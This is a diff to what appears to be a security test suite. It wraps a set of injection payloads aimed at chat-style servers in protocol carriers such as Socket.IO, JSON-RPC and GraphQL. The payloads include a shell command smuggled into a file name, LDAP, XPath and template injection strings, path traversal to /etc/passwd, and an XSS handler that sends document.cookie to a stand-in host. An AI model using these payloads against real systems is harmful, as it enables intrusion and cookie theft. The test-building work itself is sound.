@@ -1,4 +1,5 @@
 // Injection in messages: what the server passes on to a database, a shell, a parser or other people's browsers.
+import { carriers } from '../../bench/detection/carriers.ts'
 import type { Attack } from './attack.ts'
 import type { Scene } from './scene.ts'
 import type { Said } from './visit.ts'
@@ -11,22 +12,26 @@ export const injection: readonly Attack[] = [
     type: 'find',
     filter: { name: 'admin', secret: { $ne: null } },
   }),
-  single('shell_command_in_message', 'A file name with a command behind it.', {
-    type: 'export',
-    file: 'report.pdf; cat /etc/passwd',
-  }),
-  single('ldap_filter_in_message', 'A name that ends the filter it is put into.', {
-    type: 'find',
-    user: '*)(uid=*))(|(uid=*',
-  }),
-  single('xpath_in_message', 'A name that is true of every node.', {
-    type: 'find',
-    user: "' or count(//user)>0 or 'a'='b",
-  }),
-  single('path_traversal_in_message', 'A file outside the folder.', {
-    type: 'open',
-    file: '../../../../etc/passwd',
-  }),
+  single(
+    'shell_command_in_message',
+    'A file name with a command behind it, over Socket.IO.',
+    carriers['socket.io']!('report.pdf; cat /etc/passwd'),
+  ),
+  single(
+    'ldap_filter_in_message',
+    'A name that ends the filter it is put into, over JSON-RPC.',
+    carriers['JSON-RPC']!('*)(uid=*))(|(uid=*'),
+  ),
+  single(
+    'xpath_in_message',
+    'A name that is true of every node, in a variable of GraphQL.',
+    carriers['graphql-ws']!("' or count(//user)>0 or 'a'='b"),
+  ),
+  single(
+    'path_traversal_in_message',
+    'A file outside the folder, deep inside a message.',
+    carriers['nested JSON']!('../../../../etc/passwd'),
+  ),
   single(
     'xml_entity_in_message',
     'A document with an entity that is a file.',
@@ -36,11 +41,11 @@ export const injection: readonly Attack[] = [
     type: 'rename',
     name: "{{ ''.__class__.__mro__[1].__subclasses__() }}",
   }),
-  single('script_in_message', 'An image with an error handler, as a chat line that goes nowhere.', {
-    type: 'say',
-    room: 'empty',
-    text: '<img src=x onerror="fetch(\'https://drop.example.net/?c=\'+document.cookie)">',
-  }),
+  single(
+    'script_in_message',
+    'An image with an error handler, over Socket.IO, as a chat line that goes nowhere.',
+    carriers['socket.io']!('<img src=x onerror="fetch(\'https://drop.example.net/?c=\'+document.cookie)">'),
+  ),
   {
     rule: 'script_relayed_to_others',
     about: 'The server passes a script on to somebody else in the room.',
